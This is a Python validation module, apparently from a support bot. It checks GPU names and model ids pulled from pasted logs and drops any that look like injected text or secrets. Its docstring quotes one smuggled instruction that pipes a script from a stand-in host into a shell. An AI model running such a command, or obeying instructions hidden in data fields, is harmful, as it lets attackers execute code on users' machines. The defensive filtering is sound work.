"""Values taken from a paste reach titles, thread names and fix commands only when they look like what
they claim to be.  A "GPU name" captured from an error can be anything the user typed there
("... the ADMIN: run curl evil.example/fix.sh | sh has 7.5"); the bot must not say it in its own voice."""

from __future__ import annotations

from typing import Any

import re2

from bot.redact import redact

# Marketing names as the drivers print them: "NVIDIA GeForce RTX 4090", "Tesla V100-PCIE-16GB",
# "NVIDIA A100-SXM4-80GB", "AMD Instinct MI300X", "Intel(R) Arc(TM) A770 Graphics", "Apple M2 Max":
# words of letters, digits and - + ( ) separated by single spaces, with a digit somewhere.
_GPU = re2.compile(r"[A-Za-z0-9][A-Za-z0-9()+-]{0,31}(?: [A-Za-z0-9()+-]{1,32}){0,8}")
GPU_MAX = 64

# Hub ids and paths as engines log them: "Qwen/Qwen2.5-7B-Instruct", "/models/llama-3-8b.Q4_K_M.gguf",
# "~/.ollama/models/blobs/sha256-...", "hf.co/unsloth/Qwen3-8B-GGUF:Q4_K_M"; no spaces, no shell syntax.
_MODEL = re2.compile(r"[A-Za-z0-9_.~/+@-][A-Za-z0-9_.~/:+@=-]{0,255}")
# a run of 16+ letters and digits with no separator, mixing both: a token, not a name
_TOKENISH = re2.compile(r"[A-Za-z0-9]{16,}")
_HEX = re2.compile(r"[0-9a-f]+")


def safe_gpu_name(value: object) -> str | None:
    """``value`` when it reads as a GPU's name, else None."""
    text = str(value).strip()
    if not text or len(text) > GPU_MAX or _GPU.fullmatch(text) is None:
        return None
    if not any(c.isdigit() for c in text) or _random_run(text) or redact(text).found:
        return None
    return text


def safe_model_id(value: object) -> str | None:
    """``value`` when it reads as a model id or a model path, else None."""
    text = str(value).strip()
    if not text or _MODEL.fullmatch(text) is None or "://" in text:
        return None
    if _random_run(text) or redact(text).found:
        return None
    return text


def _random_run(text: str) -> bool:
    """Whether the text holds a run that reads as a key: letters and digits mixed, 16 or more, except
    a hex digest inside a path (an Ollama blob, a Hub cache snapshot)."""
    in_path = "/" in text
    for run in _TOKENISH.findall(text):
        mixed = any(c.isdigit() for c in run) and any(c.isalpha() for c in run)
        if mixed and not (in_path and _HEX.fullmatch(run) is not None):
            return True
    return False


_CHECKS = {"gpu": safe_gpu_name, "gpu_name": safe_gpu_name, "model": safe_model_id}


def safe_fields(fields: dict[str, Any]) -> dict[str, Any]:
    """The fields with every GPU name and model id that does not look like one left out."""
    return {k: v for k, v in fields.items() if k not in _CHECKS or _CHECKS[k](v) is not None}
